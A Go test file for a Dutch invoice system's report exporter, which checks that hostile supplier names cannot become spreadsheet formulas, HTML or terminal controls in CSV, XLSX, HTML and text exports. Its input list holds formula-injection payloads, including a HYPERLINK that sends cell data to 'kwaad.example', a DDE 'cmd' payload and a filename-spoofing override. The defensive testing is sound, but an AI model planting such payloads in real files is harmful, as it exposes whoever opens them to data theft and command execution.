package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"ommen.nl/facturen/invoice"
	"ommen.nl/facturen/invoice/calendar"
	"ommen.nl/facturen/invoice/report"
	"ommen.nl/facturen/invoice/store"
)

// hostile are names as suppliers can have them, and as those have them who
// hope that somebody opens the export in Excel.
var hostile = []string{
	`=HYPERLINK("http://kwaad.example?"&A1,"klik")`, "+31 529 123456 Installaties", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1+1", "'s-Graveland B.V.",
	`Jansen & "Zonen" <b>; v.o.f.`, "\u202egnp.exe", strings.Repeat("Zeer lange naam ", 40), strings.Repeat("W", 300), "Ünïcode – 株式会社", "",
}

// hostileRegister has an invoice of each such supplier, and a hundred departments.
func hostileRegister(t *testing.T) *store.Store {
	t.Helper()
	s := got(store.Open(t.Context(), t.TempDir()))(t)
	t.Cleanup(func() { s.Close() })
	day := calendar.MustParse("2026-03-02")
	err := s.Write(t.Context(), func(tx *store.Tx) error {
		m := &invoice.Message{UIDValidity: 1, UID: 1, ReceivedAt: day.At(9, 0), RecordedAt: day.At(9, 0), Class: invoice.ClassInvoice}
		d := &invoice.Document{What: "ubl", Name: "factuur.xml"}
		if err := tx.InsertMessage(m); err != nil {
			return err
		}
		d.MessageID = m.ID
		if err := tx.InsertDocument(d); err != nil {
			return err
		}
		for i := range 100 {
			name := hostile[i%len(hostile)]
			supplier := &invoice.Supplier{Name: fmt.Sprint(name, i), Country: "NL", CreatedAt: day.At(9, 0)}
			if err := tx.InsertSupplier(supplier); err != nil {
				return err
			}
			doc := invoice.Invoice{Lines: []invoice.Line{{Name: name}}, TaxBreakdown: []invoice.TaxSubtotal{{Category: name,
				Taxable: invoice.ParseAmount("100", "EUR"), Tax: invoice.ParseAmount("21", "EUR"), Rate: invoice.ParseAmount("21", "")}}}
			r := &invoice.Record{Register: fmt.Sprintf("F2026-%06d", i+1), Status: invoice.Accepted, MessageID: m.ID, DocumentID: d.ID, ReceivedAt: day.At(9, 0), ReceiptDate: day,
				SupplierID: supplier.ID, Supplier: name, Number: name, Normal: name, IssueDate: day, Currency: "EUR", Payable: 121_00, Reference: name, Holder: fmt.Sprint(name, i),
				PromiseDate: day.AddDays(30), Findings: []byte(`[{"rule":"X","effect":"reject","message_nl":"x"}]`), Document: got(json.Marshal(doc))(t)}
			if i%7 == 0 {
				r.Status = invoice.Rejected
			}
			if err := tx.InsertInvoice(r); err != nil {
				return err
			}
			reference := &invoice.PaymentReference{Code: fmt.Sprint(name, i), Normal: fmt.Sprint(name, i), Holder: name, Purpose: name, IssuedAt: day.At(9, 0), ValidFrom: day}
			if err := tx.InsertReference(reference); err != nil {
				return err
			}
		}
		return tx.Append(day.At(9, 0), hostile[0], "supplier.added", "supplier", nil)
	})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// formula is a cell that a spreadsheet would calculate.
var formula = regexp.MustCompile(`^[=+@\t\r-]`)

func TestNamesFromOutsideDoNoHarm(t *testing.T) {
	s := hostileRegister(t)
	q := report.Question{Period: wholeYear, On: lastDay}
	for _, kind := range report.Kinds() {
		for _, by := range append([]string{""}, kind.By...) {
			q.Name, q.By, q.Invoices = kind.Name, by, by != ""
			r := got(report.Make(t.Context(), s, q, settings()))(t)
			name := kind.Name + " " + by
			for i := range r.Tables {
				for _, dialect := range []string{"", "nl"} {
					reader := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(written(t, r, report.Form{Format: "csv", Dialect: dialect, Table: r.Tables[i].Name}), []byte("\ufeff"))))
					if dialect == "nl" {
						reader.Comma = ';'
					}
					for _, line := range got(reader.ReadAll())(t) {
						for _, cell := range line {
							if formula.MatchString(cell) && !regexp.MustCompile(`^-?[0-9.,]+$`).MatchString(cell) {
								t.Errorf("%s: a cell of %s begins like a formula: %q", name, r.Tables[i].Name, cell)
							}
						}
					}
				}
			}
			if page := string(written(t, r, report.Form{Format: "html"})); strings.Contains(page, "<b>") || strings.Contains(page, "\u202e") {
				t.Errorf("%s: a name has become a part of the page", name)
			}
			if text := string(written(t, r, report.Form{Format: "text"})); strings.ContainsAny(text, "\t\u202e") {
				t.Errorf("%s: a name steers the terminal", name)
			}
			book := got(excelize.OpenReader(bytes.NewReader(written(t, r, report.Form{Format: "xlsx"}))))(t)
			for _, sheet := range book.GetSheetList() {
				for n, row := range got(book.GetRows(sheet))(t) {
					for c := range row {
						at := got(excelize.CoordinatesToCellName(c+1, n+1))(t)
						if found := got(book.GetCellFormula(sheet, at))(t); found != "" {
							t.Errorf("%s: %s!%s is the formula %s", name, sheet, at, found)
						}
					}
				}
			}
			book.Close()
		}
	}
	q.Name, q.By, q.Invoices = "postings", "", false
	decoder := xml.NewDecoder(bytes.NewReader(written(t, got(report.Make(t.Context(), s, q, settings()))(t), report.Form{Format: "xaf"})))
	for {
		if _, err := decoder.Token(); errors.Is(err, io.EOF) {
			break
		} else if err != nil {
			t.Fatalf("the audit file: %v", err)
		}
	}
}

// As LibreOffice shows the Dutch csv to who opens it: amounts are numbers and
// dates are dates, in a country where they are written like that.
func TestLibreOfficeOpensTheDutchCSV(t *testing.T) {
	office := needs(t, "soffice")
	g := aYear(t)
	folder := t.TempDir()
	r := g.report(t, report.Question{Name: "interest"})
	if err := os.WriteFile(filepath.Join(folder, "in.csv"), written(t, r, report.Form{Format: "csv", Dialect: "nl", Table: "invoices"}), 0o600); err != nil {
		t.Fatal(err)
	}
	// In: semicolon 59, quote 34, UTF-8 76, from line 1, Dutch 1043. Out: as it is stored, in en-US.
	if said, err := exec.Command(office, "--headless", "-env:UserInstallation=file://"+folder+"/profile", "--infilter=CSV:59,34,76,1,,1043",
		"--convert-to", "xlsx", "--outdir", folder, filepath.Join(folder, "in.csv")).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, said)
	}
	book := got(excelize.OpenFile(filepath.Join(folder, "in.xlsx")))(t)
	defer book.Close()
	sheet, of := book.GetSheetList()[0], table(t, r, "invoices")
	for i, c := range of.Columns {
		if c.Kind != report.Money && c.Kind != report.Date && c.Kind != report.Count {
			continue
		}
		at := got(excelize.CoordinatesToCellName(i+1, 2))(t)
		if kind := got(book.GetCellType(sheet, at))(t); kind != excelize.CellTypeUnset && kind != excelize.CellTypeNumber {
			t.Errorf("%s is of type %d: text, and no number", c.Title, kind)
		}
	}
}
